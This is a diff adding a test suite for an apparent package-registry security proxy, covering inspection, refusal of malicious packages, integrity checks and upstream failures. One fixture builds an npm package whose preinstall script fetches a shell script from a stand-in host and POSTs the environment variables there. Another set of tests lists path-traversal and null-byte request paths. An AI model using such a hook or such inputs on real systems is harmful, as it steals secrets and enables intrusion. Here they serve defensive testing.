@@ -1,0 +1,290 @@
+import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
+import { request } from "node:http";
+import { test } from "node:test";
+import { npmTarball } from "../../test/support/archives.ts";
+import { type TestGate, testGate } from "../../test/support/test-gate.ts";
+
+const TGZ = "application/octet-stream";
+
+/** An ordinary package on the fake upstream: one packument, one tarball a version. */
+function publish(
+  gate: TestGate,
+  name: string,
+  versions: Readonly<Record<string, Buffer>>,
+  options: { times?: Record<string, string> } = {},
+): void {
+  const entries = Object.entries(versions);
+  const document = {
+    name,
+    "dist-tags": { latest: entries.at(-1)![0] },
+    versions: Object.fromEntries(
+      entries.map(([version, bytes]) => {
+        const integrity = `sha512-${createHash("sha512").update(bytes).digest("base64")}`;
+        const tarball = `${gate.upstream.url}/npm/${name}/-/${name}-${version}.tgz`;
+        return [
+          version,
+          { name, version, dist: { tarball, integrity, shasum: createHash("sha1").update(bytes).digest("hex") } },
+        ];
+      }),
+    ),
+    time: Object.fromEntries(
+      entries.map(([version]) => [version, options.times?.[version] ?? "2025-01-01T00:00:00.000Z"]),
+    ),
+  };
+  const body = JSON.stringify(document);
+  gate.upstream.say(`/npm/${name}`, {
+    headers: { "content-type": "application/json", etag: `"${createHash("md5").update(body).digest("hex")}"` },
+    body,
+  });
+  for (const [version, bytes] of entries)
+    gate.upstream.say(`/npm/${name}/-/${name}-${version}.tgz`, { headers: { "content-type": TGZ }, body: bytes });
+}
+
+const harmless = (name: string, version = "1.0.0") =>
+  npmTarball({ name, version, files: { "index.js": "module.exports = (a, b) => a + b;\n" } });
+
+const malicious = (name: string, version = "1.0.0") =>
+  npmTarball({
+    name,
+    version,
+    manifest: { scripts: { preinstall: "node setup.js" } },
+    files: {
+      "setup.js":
+        "const { execSync } = require('child_process');\nexecSync('curl -s https://example.invalid/x.sh | sh');\nrequire('https').request({host:'example.invalid',method:'POST'}).end(JSON.stringify(process.env));\n",
+    },
+  });
+
+test("a clean file is inspected once, served byte for byte with ranges and validators, and recorded", async (context) => {
+  const gate = await testGate(context);
+  const bytes = harmless("plain");
+  publish(gate, "plain", { "1.0.0": bytes });
+  const first = await gate.get("/npm/plain/-/plain-1.0.0.tgz");
+  assert.equal(first.status, 200, await first.clone().text());
+  assert.deepEqual(Buffer.from(await first.arrayBuffer()), bytes);
+  const etag = first.headers.get("etag")!;
+  assert.equal((await gate.get("/npm/plain/-/plain-1.0.0.tgz", { "if-none-match": etag })).status, 304);
+  const part = await gate.get("/npm/plain/-/plain-1.0.0.tgz", { range: "bytes=3-7" });
+  assert.equal(part.status, 206);
+  assert.equal(part.headers.get("content-range"), `bytes 3-7/${bytes.length}`);
+  assert.deepEqual(Buffer.from(await part.arrayBuffer()), bytes.subarray(3, 8));
+  assert.equal(gate.upstream.count("/npm/plain/-/plain-1.0.0.tgz"), 1);
+  const rows = await gate.app.database.selectFrom("ledger").selectAll().execute();
+  assert.deepEqual(
+    rows.map(({ outcome, project, version, word }) => ({ outcome, project, version, word })),
+    Array(3).fill({ outcome: "served", project: "plain", version: "1.0.0", word: "clean" }),
+  );
+});
+
+test("many requests for one new file fetch it once", async (context) => {
+  const gate = await testGate(context);
+  publish(gate, "popular", { "1.0.0": harmless("popular") });
+  const answers = await Promise.all(Array.from({ length: 30 }, () => gate.get("/npm/popular/-/popular-1.0.0.tgz")));
+  assert.deepEqual(new Set(answers.map(({ status }) => status)), new Set([200]));
+  assert.equal(gate.upstream.count("/npm/popular"), 1);
+  assert.equal(gate.upstream.count("/npm/popular/-/popular-1.0.0.tgz"), 1);
+});
+
+test("a malicious file is refused with 403, a sentence in the reason phrase, the body and the notice, and a page with the evidence", async (context) => {
+  const gate = await testGate(context);
+  publish(gate, "evil", { "1.0.0": malicious("evil") });
+  const answer = await gate.get("/npm/evil/-/evil-1.0.0.tgz");
+  assert.equal(answer.status, 403);
+  assert.match(answer.statusText, /pkg:npm\/evil@1\.0\.0 was inspected/);
+  const body = (await answer.json()) as { error: string; details_url: string };
+  assert.match(body.error, /pkg:npm\/evil@1\.0\.0 was inspected and found malicious/);
+  assert.match(answer.headers.get("npm-notice") ?? "", /evil@1\.0\.0/);
+  const page = await fetch(body.details_url);
+  assert.equal(page.status, 200);
+  assert.match(await page.text(), /setup\.js/);
+  const [row] = await gate.app.database.selectFrom("ledger").selectAll().execute();
+  assert.equal(row?.outcome, "withheld");
+  assert.equal(row?.code, "malicious");
+});
+
+test("a withheld version leaves the ranges: latest falls back to the newest that is offered", async (context) => {
+  const gate = await testGate(context);
+  publish(gate, "mixed", { "1.0.0": harmless("mixed"), "1.1.0": malicious("mixed", "1.1.0") });
+  assert.equal((await gate.get("/npm/mixed/-/mixed-1.1.0.tgz")).status, 403);
+  const document = (await (await gate.get("/npm/mixed")).json()) as { "dist-tags": Record<string, string> };
+  assert.equal(document["dist-tags"]["latest"], "1.0.0");
+  assert.equal((await gate.get("/npm/mixed/-/mixed-1.0.0.tgz")).status, 200);
+});
+
+test("bytes that differ from what the index declares are withheld", async (context) => {
+  const gate = await testGate(context);
+  publish(gate, "swapped", { "1.0.0": harmless("swapped") });
+  gate.upstream.say("/npm/swapped/-/swapped-1.0.0.tgz", { body: harmless("swapped", "9.9.9") });
+  const answer = await gate.get("/npm/swapped/-/swapped-1.0.0.tgz");
+  assert.equal(answer.status, 403);
+  assert.match(answer.statusText, /other bytes than its index declares/);
+});
+
+test("a file whose index entry changes to other bytes is withheld from then on", async (context) => {
+  const gate = await testGate(context);
+  publish(gate, "changing", { "1.0.0": harmless("changing") });
+  assert.equal((await gate.get("/npm/changing/-/changing-1.0.0.tgz")).status, 200);
+  publish(gate, "changing", {
+    "1.0.0": npmTarball({ name: "changing", version: "1.0.0", files: { "index.js": "module.exports = 2;\n" } }),
+  });
+  gate.app.passTime(10 * 60_000);
+  await gate.get("/npm/changing");
+  const answer = await gate.get("/npm/changing/-/changing-1.0.0.tgz");
+  assert.equal(answer.status, 403);
+  assert.match(answer.statusText, /other bytes upstream/);
+});
+
+test("upstream trouble is 502 and never not found; what is known is served and marked", async (context) => {
+  const gate = await testGate(context);
+  gate.upstream.say("/npm/down", { status: 500, body: "no" });
+  assert.equal((await gate.get("/npm/down")).status, 502);
+  publish(gate, "down", { "1.0.0": harmless("down") });
+  gate.app.passTime(60_000);
+  assert.equal((await gate.get("/npm/down")).status, 200);
+  gate.upstream.say("/npm/down", { status: 500, body: "no" });
+  gate.app.passTime(10 * 60_000);
+  const stale = await gate.get("/npm/down");
+  assert.equal(stale.status, 200);
+  assert.equal(stale.headers.get("x-portcullis-stale"), "1");
+  assert.equal((await gate.get("/npm/absent")).status, 404);
+});
+
+test("an upstream that cuts its answer short, lies about its length or sends no JSON leaves nothing behind", async (context) => {
+  const gate = await testGate(context);
+  publish(gate, "cut", { "1.0.0": harmless("cut") });
+  gate.upstream.say("/npm/cut/-/cut-1.0.0.tgz", (_request, response) => {
+    response.writeHead(200, { "content-length": "5000" });
+    response.write("short");
+    response.destroy();
+  });
+  assert.equal((await gate.get("/npm/cut/-/cut-1.0.0.tgz")).status, 502);
+  gate.upstream.say("/npm/cut/-/cut-1.0.0.tgz", { body: harmless("cut") });
+  assert.equal((await gate.get("/npm/cut/-/cut-1.0.0.tgz")).status, 200, "the next try succeeds");
+  gate.upstream.say("/npm/html", { headers: { "content-type": "text/html" }, body: "<h1>hello</h1>" });
+  assert.equal((await gate.get("/npm/html")).status, 502);
+  gate.upstream.say("/npm/zipped", { headers: { "content-encoding": "gzip" }, body: "not gzip" });
+  assert.equal((await gate.get("/npm/zipped")).status, 502);
+});
+
+test("an upstream that redirects to a private address is not followed there", async (context) => {
+  const gate = await testGate(context);
+  publish(gate, "inward", { "1.0.0": harmless("inward") });
+  gate.upstream.say("/npm/inward/-/inward-1.0.0.tgz", {
+    status: 302,
+    headers: { location: "http://127.0.0.2:1/secret" },
+  });
+  const answer = await gate.get("/npm/inward/-/inward-1.0.0.tgz");
+  assert.equal(answer.status, 502);
+  assert.match(await answer.text(), /private address/);
+});
+
+test("an index document over the limit is upstream trouble", async (context) => {
+  const gate = await testGate(context, { config: { limits: { indexBytes: 100_000 } } });
+  gate.upstream.say("/npm/huge", (_request, response) => {
+    response.writeHead(200, { "content-type": "application/json" });
+    const send = () => {
+      while (!response.destroyed && response.write(" ".repeat(64 << 10)));
+      response.once("drain", send);
+    };
+    send();
+  });
+  assert.equal((await gate.get("/npm/huge")).status, 502);
+});
+
+test("an upstream that stalls is given up in time", async (context) => {
+  const gate = await testGate(context, { config: { limits: { upstreamStallMs: 300, upstreamIndexMs: 600 } } });
+  gate.upstream.say("/npm/silent", () => {});
+  gate.upstream.say("/npm/slow", (_request, response) => void response.writeHead(200).write("{"));
+  assert.deepEqual(
+    await Promise.all(["silent", "slow"].map(async (name) => (await gate.get(`/npm/${name}`)).status)),
+    [502, 502],
+  );
+});
+
+test("a file over the limit is withheld as unknown, with the reason", async (context) => {
+  const gate = await testGate(context, { config: { limits: { artifactBytes: 100 } } });
+  publish(gate, "large", { "1.0.0": harmless("large") });
+  const answer = await gate.get("/npm/large/-/large-1.0.0.tgz");
+  assert.equal(answer.status, 403);
+  assert.match(answer.statusText, /larger than the limit/);
+});
+
+test("a file that cannot be read as an archive is withheld as unknown", async (context) => {
+  const gate = await testGate(context);
+  publish(gate, "garbage", { "1.0.0": Buffer.from("this is no archive") });
+  const answer = await gate.get("/npm/garbage/-/garbage-1.0.0.tgz");
+  assert.equal(answer.status, 403);
+  assert.match(answer.statusText, /could not be inspected/);
+});
+
+test("an inspection that takes longer than a client waits answers 503 with Retry-After, and goes on", async (context) => {
+  const gate = await testGate(context, { config: { limits: { holdMs: 1 } } });
+  publish(gate, "waiting", { "1.0.0": harmless("waiting") });
+  const answer = await gate.get("/npm/waiting/-/waiting-1.0.0.tgz");
+  assert.equal(answer.status, 503);
+  assert.ok(Number(answer.headers.get("retry-after")) >= 1);
+  let status = 503;
+  for (let tries = 0; status === 503 && tries < 100; tries++) {
+    await new Promise((resolve) => setTimeout(resolve, 50));
+    status = (await gate.get("/npm/waiting/-/waiting-1.0.0.tgz")).status;
+  }
+  assert.equal(status, 200);
+});
+
+test("audit mode offers what enforce would withhold and records what it would have done", async (context) => {
+  const gate = await testGate(context, { config: { policy: { mode: "audit" } } });
+  publish(gate, "evil", { "1.0.0": malicious("evil") });
+  assert.equal((await gate.get("/npm/evil/-/evil-1.0.0.tgz")).status, 200);
+});
+
+test("a private name is never asked of an upstream", async (context) => {
+  const gate = await testGate(context, { config: { private: { npm: ["@corp/*", "secret-lib"] } } });
+  assert.equal((await gate.get("/npm/@corp%2fthing")).status, 404);
+  assert.equal((await gate.get("/npm/secret-lib")).status, 404);
+  assert.deepEqual(gate.upstream.requests, []);
+});
+
+/** The status of a GET whose path goes out as it is written; `fetch` would tidy it up. */
+function rawStatus(url: string, path: string): Promise<number> {
+  return new Promise((resolve, reject) => {
+    request(url, { path }, (response) => resolve(response.resume().statusCode ?? 0))
+      .on("error", reject)
+      .end();
+  });
+}
+
+for (const path of [
+  "/npm/..%2f..%2fetc%2fpasswd",
+  "/npm/%2e%2e/secret",
+  "/npm/a%00b",
+  "/npm/a%252fb",
+  "/npm/a%5cb",
+  "/npm/%zz",
+  "/npm/lodas%D2%BB",
+  "/pypi/simple/..%2fx/",
+  "/pypi/simple/%D0%B0bc/",
+  "/nuget/v3/flatcontainer/%2e%2e/index.json",
+  "/npm/-/v1/search?text=a&text=b",
+]) {
+  test(`a hostile address is refused: ${path}`, async (context) => {
+    const gate = await testGate(context);
+    const status = await rawStatus(gate.url, path);
+    assert.ok(status === 400 || status === 404, `${status}`);
+    assert.deepEqual(gate.upstream.requests, []);
+  });
+}
+
+test("with anonymous reading off, installing needs a token and a challenge asks for it", async (context) => {
+  const gate = await testGate(context, { config: { anonymous_reading: false } });
+  publish(gate, "plain", { "1.0.0": harmless("plain") });
+  const refused = await gate.get("/npm/plain");
+  assert.equal(refused.status, 401);
+  assert.match(refused.headers.get("www-authenticate") ?? "", /^Basic/);
+  const { createToken } = await import("../accounts/tokens.ts");
+  const { secret } = await createToken(gate.app, { name: "ci:web", kind: "ci", createdBy: "test" });
+  const bearer = { authorization: `Bearer ${secret.reveal()}` };
+  assert.equal((await gate.get("/npm/plain", bearer)).status, 200);
+  assert.equal((await gate.get("/npm/plain/-/plain-1.0.0.tgz", bearer)).status, 200);
+  const [row] = await gate.app.database.selectFrom("ledger").select("subject").execute();
+  assert.equal(row?.subject, "ci:web");
+});
